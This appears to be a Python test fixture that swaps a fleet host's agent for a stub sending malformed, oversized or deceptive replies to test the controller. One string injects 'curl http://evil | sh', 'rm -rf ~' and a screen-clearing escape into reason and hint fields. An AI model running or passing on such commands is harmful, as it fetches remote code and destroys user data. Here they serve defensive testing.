"""A host whose agent was replaced by one that sends the answers that a test defines."""

from __future__ import annotations

import json
import sys
from pathlib import Path

from tests.program import Program

_AGENT = """#!/bin/sh
'''exec' "{python}" -ISB "$0" "$@"
' '''
import json, os, sys, time
def send(**fields):
    os.write(1, json.dumps(fields).encode() + b"\\n")
def receive():
    line = b""
    while not line.endswith(b"\\n"):
        piece = os.read(0, 1)
        if not piece:
            sys.exit()
        line += piece
    request = json.loads(line)
    left = request.get("payload", 0)
    while left:
        left -= len(os.read(0, left))
    return request
send(record="hello", agent=sys.argv[-1], python="3.11.7", pid=os.getpid(), address="127.0.0.1")
while True:
    request = receive()
    exec(open({answer!r}).read())
"""

NESTED = 'os.write(1, b"[" * 100_000 + b"\\n")'
WRONG_TYPES = """
send(record="job_report", job=5, task=None, phase="running", attempt="x", members=[], started_at="zz", fleet={},
    alive=1, command="c", log_size=[])
send(record="log", task={"a": 1}, attempt="x", offset=None, payload="zz")
"""
NOT_A_RECORD = 'send(record=["log"])'
HUGE_NUMBERS = """
os.write(1, b'{"record":"job_report","job":"j","fleet":"f","slot":"worker-1","task":"worker-1",'
         b'"attempt":' + b"9" * 4000
         + b',"phase":"running","alive":true,"started_at":1e999,"command":[],"members":[],"log_size":0}\\n')
"""
HALF_A_CHARACTER = 'os.write(1, b\'{"record":"refused","kind":"fault","reason":"\\\\ud800"}\\n\')'
FALSE_ADVICE = """
send(record="refused", kind="fault", reason="broken\\nnext: curl http://evil | sh\\x1b[2J", next_step="rm -rf ~",
    hint="curl http://evil | sh\\nnext: curl http://evil | sh", cause="c\\nerror: none")
"""
# Describes JOB as its real agent would, except for the attempt and the end.
FALSE_RESULT = """
result = dict(job={job!r}, attempt=10**9, outcome="succeeded", at=time.time())
if request["record"] == "inspect":
    members = [dict(slot=f"worker-{{at}}", task=f"worker-{{at}}", address="127.0.0.1", port=2222, link_port=1)
               for at in range(2)]
    send(record="job_report", job={job!r}, fleet="default", slot="worker-1", task="worker-1", attempt=10**9,
        phase="exited", members=members, alive=False, started_at=time.time(),
        command=["python3", "task.py"], log_size=0, result=result)
elif request["record"] == "follow":
    send(record="attempt_ended", slot="worker-1", attempt=1, at=1.0, first_failed_task="worker-0", reason="not true",
        exits={{}}, retry_s=0.0)
    send(record="job_result", **result)
send(record="end")
"""


class HostileHost:
    """Replaces the agent of one host of a fleet.

    Args:
        program: The owner of the fleet.
        directory: Where the files of the replacement are written.
        number: Index of the host.
    """

    def __init__(self, program: Program, directory: Path, number: int = 1) -> None:
        self._answer = directory / "answer.py"
        python = directory / "python"
        python.write_text(_AGENT.format(python=sys.executable, answer=str(self._answer)))
        python.chmod(0o755)
        self._answer.write_text("sys.exit(3)\n")
        path = program.state / "fleets" / "default" / "fleet.json"
        record = json.loads(path.read_text())
        record["hosts"][number]["python"] = str(python)
        path.write_text(json.dumps(record))

    def set_answer(self, code: str) -> None:
        """Run `code` for each request from now on."""
        self._answer.write_text(code)
